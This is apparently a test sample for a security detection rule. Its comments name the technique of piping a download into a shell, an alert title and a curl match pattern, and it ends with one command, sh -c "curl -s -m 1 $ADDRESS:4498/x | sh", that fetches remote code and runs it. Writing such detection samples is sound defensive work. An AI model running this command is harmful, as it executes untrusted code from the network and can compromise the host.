# SPDX-License-Identifier: Apache-2.0
# technique: A download is piped into a shell
# alert: Download that a shell executes
# field: proc.args=*curl*
sh -c "curl -s -m 1 $ADDRESS:4498/x | sh"
